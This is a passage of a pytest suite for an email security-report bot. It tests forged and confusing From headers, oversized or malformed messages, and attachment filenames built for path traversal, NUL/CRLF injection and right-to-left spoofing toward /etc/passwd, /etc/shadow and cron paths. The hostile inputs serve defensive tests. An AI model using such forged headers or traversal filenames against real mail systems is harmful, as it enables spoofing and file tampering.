    [escalation] = [m for m in sent if m.rcpt_tos == ("oncall@team.example.test",)]
    assert "comment field" not in escalation.data.decode()  # the body is never forwarded


# ---------------------------------------------------------------------------------------------
# Address confusion: who is the sender, who is the team, who gets the receipt?

# From field(s) as raw header lines -> the one address a receipt may go to ("" = nobody).
# Nothing here carries an Authentication-Results field from the operator's server, so nothing
# here is the team, whatever it claims.
CONFUSION: dict[str, tuple[tuple[bytes, ...], str]] = {
    "double-at": ((b"From: eve@attacker.example@team.example.test",), ""),
    "double-at-in-brackets": ((b"From: Eve <eve@attacker.example@team.example.test>",), ""),
    "comment-naming-the-team": (
        (b"From: eve@attacker.example (alice@team.example.test)",),
        "eve@attacker.example",
    ),
    "comment-before-the-address": (
        (b"From: (alice@team.example.test) eve2@attacker.example",),
        "eve2@attacker.example",
    ),
    "comment-inside-the-address": (
        (b"From: alice(x)@team.example.test.attacker(y).example",),
        "alice@team.example.test.attacker.example",
    ),
    "display-name-is-a-team-address": (
        (b'From: "alice@team.example.test" <eve3@attacker.example>',),
        "eve3@attacker.example",
    ),
    "display-name-is-our-own-address": (
        (b'From: "Example Security <security@example.test>" <eve4@attacker.example>',),
        "eve4@attacker.example",
    ),
    "unquoted-display-name-with-an-at": (
        (b"From: alice@team.example.test <eve5@attacker.example>",),
        "",
    ),
    "encoded-word-team-address-as-name": (
        (b"From: =?utf-8?q?alice=40team.example.test?= <eve6@attacker.example>",),
        "eve6@attacker.example",
    ),
    "encoded-word-as-the-whole-address": ((b"From: =?utf-8?q?alice=40team.example.test?=",), ""),
    "encoded-word-nul-in-name": (
        (b"From: =?utf-8?q?alice=00?= <eve7@attacker.example>",),
        "eve7@attacker.example",
    ),
    "encoded-word-nul-splitting-the-team-address": (
        (b"From: =?utf-8?q?alice=00=40team.example.test?= <eve8@attacker.example>",),
        "eve8@attacker.example",
    ),
    "two-from-fields": (
        (b"From: eve9@attacker.example", b"From: alice@team.example.test"),
        "",
    ),
    "two-addresses-in-one-from": (
        (b"From: eve10@attacker.example, alice@team.example.test",),
        "",
    ),
    # A forged team From is a claim, not the team: recorded, flagged, never obeyed or answered.
    "forged-team-address": ((b"From: Alice <alice@team.example.test>",), ""),
    "group-syntax-around-a-team-address": ((b"From: Team: alice@team.example.test;",), ""),
    "look-alike-team-domain": (
        (b"From: alice@team.example.test.evil.example",),
        "alice@team.example.test.evil.example",
    ),
    "sender-and-reply-to-name-the-team": (
        (
            b"From: eve11@attacker.example",
            b"Sender: alice@team.example.test",
            b"Reply-To: alice@team.example.test",
        ),
        "eve11@attacker.example",
    ),
}


def confusion_report(name: str) -> bytes:
    from_fields, _ = CONFUSION[name]
    # A command as the first body line: obeyed only from a trusted team member.
    return (
        b"\r\n".join(from_fields) + b"\r\nTo: " + OWN.encode() + b"\r\n"
        b"Cc: oncall@team.example.test\r\nSubject: /close spam\r\n"
        b"Date: Mon, 02 Nov 2026 10:15:00 +0100\r\n"
        b"Message-ID: <" + name.encode() + b"@attacker.example>\r\n\r\n"
        b'/close spam\r\n/credit "Eve"\r\nPlease close all cases.\r\n'
    )


@pytest.fixture(scope="module")
def confusion_run(
    dovecot_server: ImapTestServer, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[BatchRun]:
    messages = [(confusion_report(name), "eve@attacker.example") for name in CONFUSION]
    answered = len([answer for _, answer in CONFUSION.values() if answer])
    with batch_run(dovecot_server, tmp_path_factory.mktemp("confusion"), messages, answered) as run:
        yield run


@pytest.mark.parametrize("name", sorted(CONFUSION))
def test_address_confusion_is_never_the_team_and_never_a_recipient(
    confusion_run: BatchRun, name: str
) -> None:
    bot = confusion_run.bot
    _, answer = CONFUSION[name]
    case, message = inbound(bot, f"<{name}@attacker.example>")
    if is_team(case.reporter):  # claimed, and not proven
        assert "unauthenticated-team" in case.flags
        assert message.kind == "unverified-team"
    else:
        assert case.reporter == answer
    assert case.reporter != OWN
    assert message.kind not in ("team", "own-copy")
    assert case.status == "new" and case.credit is None  # no command obeyed
    assert not [e for e in events(bot, case.id) if e.action in ("command", "acknowledged")]
    to_case = [o.recipients for o in outbox(bot) if o.case_id == case.id]
    assert to_case == ([[answer]] if answer else [])
    if answer:
        assert [m.rcpt_tos for m in confusion_run.sink.received].count((answer,)) == 1


def test_address_confusion_reaches_no_one_but_the_real_senders(confusion_run: BatchRun) -> None:
    rcpts = sorted(r for m in confusion_run.sink.received for r in m.rcpt_tos)
    assert rcpts == sorted(answer for _, answer in CONFUSION.values() if answer)


# ---------------------------------------------------------------------------------------------
# Size and complexity: each monster becomes a case within a time and memory budget, and the
# message after it is processed as usual.

TIME_BUDGET = 5.0  # seconds for the whole pass: fetch, parse, classify, store, send
MEMORY_BUDGET = 200 * 1024 * 1024  # peak bytes allocated by Python during the pass
SMALL_LIMIT = 2 * 1024 * 1024  # max_message_bytes for these tests, so "oversize" is quick


def oversize() -> bytes:
    import base64

    blob = base64.encodebytes(bytes(range(256)) * 10_000).decode().replace("\n", "\r\n")
    return mail(
        "From: Olga Oversize <olga@reporter.example>",
        f"To: {OWN}",
        "Subject: Full PoC attached",
        "Message-ID: <monster@reporter.example>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"',
        body=(
            "--b\r\nContent-Type: text/plain\r\n\r\nSee the attached capture.\r\n"
            "--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64"
            f'\r\nContent-Disposition: attachment; filename="capture.pcap"\r\n\r\n{blob}--b--\r\n'
        ),
    )


def megabyte_header_line() -> bytes:
    return mail(
        "From: Hedda <hedda@reporter.example>",
        "Subject: A very long header",
        "Message-ID: <monster@reporter.example>",
        "X-Padding: " + "a" * (1024 * 1024),
        f"To: {OWN}",
        body="The header above is a megabyte long.\r\n",
    )


def nested_messages(levels: int = 2000) -> bytes:
    raw = mail("From: innermost@reporter.example", "Subject: innermost", body="hello\r\n")
    for level in range(levels - 1):
        raw = mail(
            f"From: level{level}@reporter.example",
            f"Subject: level {level}",
            "MIME-Version: 1.0",
            "Content-Type: message/rfc822",
            body=raw,
        )
    return mail(
        "From: Nora Nested <nora@reporter.example>",
        f"To: {OWN}",
        "Subject: Forwarded many times",
        "Message-ID: <monster@reporter.example>",
        "MIME-Version: 1.0",
        "Content-Type: message/rfc822",
        body=raw,
    )


def many_parts(parts: int = 10_000) -> bytes:
    body = "".join(f"--p\r\nContent-Type: text/plain\r\n\r\npart {i}\r\n" for i in range(parts))
    return mail(
        "From: Mia Many <mia@reporter.example>",
        f"To: {OWN}",
        "Subject: Ten thousand parts",
        "Message-ID: <monster@reporter.example>",
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=p",
        body=body + "--p--\r\n",
    )


def not_mail() -> bytes:
    # An ELF executable's first bytes, then binary noise: a file somebody piped into sendmail.
    noise = bytes((i * 7919 + 13) % 256 for i in range(64 * 1024))
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + noise


def unknown_charsets() -> bytes:
    return mail(
        "From: =?x-klingon?q?Kor?= <kor@reporter.example>",
        f"To: {OWN}",
        "Subject: =?x-unknown-8?b?SGVsbG8gd29ybGQ=?= and =?utf-8?q?caf=C3=A9?=",
        "Message-ID: <monster@reporter.example>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"',
        body=(
            "--b\r\nContent-Type: text/plain; charset=x-klingon\r\n"
            "Content-Transfer-Encoding: 8bit\r\n\r\nQapla' \xff\xfe \xe9t\xe9\r\n"
            '--b\r\nContent-Type: text/plain; charset="utf-7"\r\n\r\n+AGEAYgBj-\r\n'
            "--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
            "filename*=x-bogus''r%E9sum%E9.txt\r\n\r\nx\r\n--b--\r\n"
        ).encode("latin-1"),
    )


@dataclass(frozen=True)
class Monster:
    build: Callable[[], bytes]
    reporter: str  # the sender its case records ("" = none can be read)
    flag: str | None  # the flag its case carries
    defect: str  # a phrase that one of its recorded parse defects contains


MONSTERS = {
    "over-max-message-bytes": Monster(oversize, "olga@reporter.example", "oversize", "oversize"),
    "megabyte-header-line": Monster(
        megabyte_header_line, "hedda@reporter.example", None, "header block over"
    ),
    "two-thousand-nested-messages": Monster(
        nested_messages, "nora@reporter.example", None, "nesting"
    ),
    "ten-thousand-mime-parts": Monster(many_parts, "mia@reporter.example", None, "MIME parts"),
    "binary-file-not-mail": Monster(not_mail, "", "unparseable", "not a message"),
    "unknown-charsets": Monster(unknown_charsets, "kor@reporter.example", None, "charset"),
}


def served(account: ImapAccount) -> list[bytes]:
    """Every message of the account's INBOX as the server hands it out, in UID order."""
    with account.client() as c:
        c.select_folder("INBOX", readonly=True)
        fetched = c.fetch(sorted(c.search("ALL")), ["BODY.PEEK[]"])
        return [fetched[uid][b"BODY[]"] for uid in sorted(fetched)]


def traced_peak(run: Callable[[], object]) -> int:
    tracemalloc.start()
    try:
        run()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("name", sorted(MONSTERS))
def test_monster_message_becomes_a_case_in_budget_and_the_next_one_is_processed(
    tmp_path: Path, imap_account: ImapAccount, smtp_sink: SmtpSink, clock: FixedClock, name: str
) -> None:
    monster = MONSTERS[name]
    bot = make_bot(tmp_path, imap_account, smtp_sink, clock, max_message_bytes=SMALL_LIMIT)
    deliver(imap_account, monster.build(), sender="someone@reporter.example")
    deliver(imap_account, report("Rita <rita@reporter.example>", message_id="<next@x>"))

    try:
        started = time.perf_counter()
        result = run_once(bot)
        elapsed = time.perf_counter() - started
    finally:
        bot.close()
    # The same pass again, on a database of its own, to measure its memory: tracemalloc slows
    # allocation-heavy parsing several times over, so it would spoil the time taken above.
    (tmp_path / "again").mkdir()
    again = make_bot(
        tmp_path / "again", imap_account, smtp_sink, clock, max_message_bytes=SMALL_LIMIT
    )
    try:
        peak = traced_peak(lambda: run_once(again))
    finally:
        again.close()

    assert (result.intake.opened, result.intake.failed) == (2, 0)
    first, following = all_cases(bot)
    assert first.reporter == monster.reporter
    if monster.flag:
        assert monster.flag in first.flags
    with bot.db.session() as s:
        message = s.scalars(select(Message).where(Message.case_id == first.id)).first()
        assert message is not None and message.raw_id is not None
        stored = bot.db.raw_store.get(s, message.raw_id)
    assert stored == served(imap_account)[0]  # kept byte for byte, as the server has it
    assert any(monster.defect in d for d in message.details["defects"]), message.details
    # The daemon went on: the next report got its case and its receipt.
    assert following.reporter == "rita@reporter.example"
    assert "rita@reporter.example" in [m.rcpt_tos[0] for m in smtp_sink.wait_for(1)]
    assert elapsed < TIME_BUDGET, f"{elapsed:.2f} s"
    assert peak < MEMORY_BUDGET, f"{peak / 1e6:.0f} MB"


# ---------------------------------------------------------------------------------------------
# Attachment names are reporter input: shown, never used as a path

HOSTILE_FILENAMES = [
    b'Content-Disposition: attachment; filename="../../etc/passwd"',
    b'Content-Disposition: attachment; filename="/etc/cron.d/mailbot"',
    b"Content-Disposition: attachment; filename*=utf-8''a%00b%0D%0A..%2F..%2Fx",
    b'Content-Disposition: attachment; filename="C:\\\\Windows\\\\System32\\\\evil.dll"',
    b"Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
    b'Content-Disposition: attachment; filename="=?utf-8?q?..=2F..=2Fetc=2Fshadow?="',
    b'Content-Disposition: attachment; filename="tab\there\x1b[31mred"',
    b'Content-Type: application/octet-stream; name="..\\\\..\\\\boot.ini"',
    b'Content-Disposition: attachment; filename="' + b"long" * 2500 + b'"',
]
FORBIDDEN_IN_NAMES = ("/", "\\", "\x00", "\r", "\n", "\t", "\x1b", "\u202e")


def attachments_report() -> bytes:
    parts = b"".join(
        b"--b\r\n"
        + (
            b""
            if header.startswith(b"Content-Type")
            else b"Content-Type: application/octet-stream\r\n"
        )
        + header
        + b"\r\nContent-Transfer-Encoding: base64\r\n\r\naGVsbG8=\r\n"
        for header in HOSTILE_FILENAMES
    )
    return mail(
        "From: Rita <rita@reporter.example>",
        f"To: {OWN}",
        "Subject: PoC files attached",
        "Message-ID: <files@reporter.example>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"',
        body=b"--b\r\nContent-Type: text/plain\r\n\r\nSee the files.\r\n" + parts + b"--b--\r\n",
    )


def test_attachment_filenames_are_never_used_as_paths(
    bot: App,
    imap_account: ImapAccount,
    smtp_sink: SmtpSink,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    deliver(imap_account, attachments_report())
    # Intake runs in an empty working directory with an empty temporary directory: anything
    # written to either (or a path derived from a file name) would show.
    cwd, tmp = tmp_path / "cwd", tmp_path / "tmp"
    cwd.mkdir()
    tmp.mkdir()
    monkeypatch.chdir(cwd)
    monkeypatch.setenv("TMPDIR", str(tmp))
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    system_tmp = Path("/tmp")
    before = {p.name for p in system_tmp.iterdir()}
    passwd = Path("/etc/passwd").stat()

    run_once(bot)

    assert list(cwd.iterdir()) == []
    assert list(tmp.iterdir()) == []
    appeared = {p.name for p in system_tmp.iterdir()} - before
    assert not appeared & {"etc", "passwd", "shadow", "evil.dll", "boot.ini", "x"}
    for relative in ("../../etc/passwd", "../../etc/shadow", "../../x", "../boot.ini"):
        assert not (cwd / relative).exists()
    assert Path("/etc/passwd").stat().st_mtime == passwd.st_mtime
    assert not Path("/etc/cron.d/mailbot").exists()
    _, message = inbound(bot, "<files@reporter.example>")
    attachments = message.details["attachments"]
    assert len(attachments) == len(HOSTILE_FILENAMES)
    names = [str(a["filename"]) for a in attachments]
    for name in names:
        assert not any(c in name for c in FORBIDDEN_IN_NAMES), repr(name)
        assert name.isprintable() and len(name) <= 255
        assert name not in ("", ".", "..")
    assert ".._.._etc_passwd" in names and "invoice fdp.exe" in names
    assert all(a["sha256"] == hashlib.sha256(b"hello").hexdigest() for a in attachments)
    assert [m.rcpt_tos for m in smtp_sink.wait_for(1)] == [("rita@reporter.example",)]


# ---------------------------------------------------------------------------------------------
# A From that parses but cannot be written back as a recipient


@pytest.mark.parametrize(
    "sender",
    ["J\u00fcrgen <j\u00fcrgen@reporter.example>", "rita@-bad-.example", "rita@reporter..example"],
    ids=["non-ascii-local-part", "malformed-domain-label", "empty-domain-label"],
)
def test_a_sender_address_a_reply_cannot_carry_still_opens_a_case_without_receipt(
    bot: App, imap_account: ImapAccount, smtp_sink: SmtpSink, sender: str
) -> None:
    deliver(imap_account, report(sender, message_id="<odd-sender@x>"))
    deliver(imap_account, report("Rita <rita@reporter.example>", message_id="<next@x>"))

    result = run_once(bot)

    assert (result.intake.opened, result.intake.failed) == (2, 0)
    case, _ = inbound(bot, "<odd-sender@x>")
    reasons = [e.detail["reason"] for e in events(bot, case.id) if e.action == "no-receipt"]
    if case.reporter:
        assert reasons and "cannot be written as a recipient" in reasons[0]
    assert [m.rcpt_tos for m in smtp_sink.wait_for(1)] == [("rita@reporter.example",)]
    assert [o.recipients for o in outbox(bot)] == [["rita@reporter.example"]]
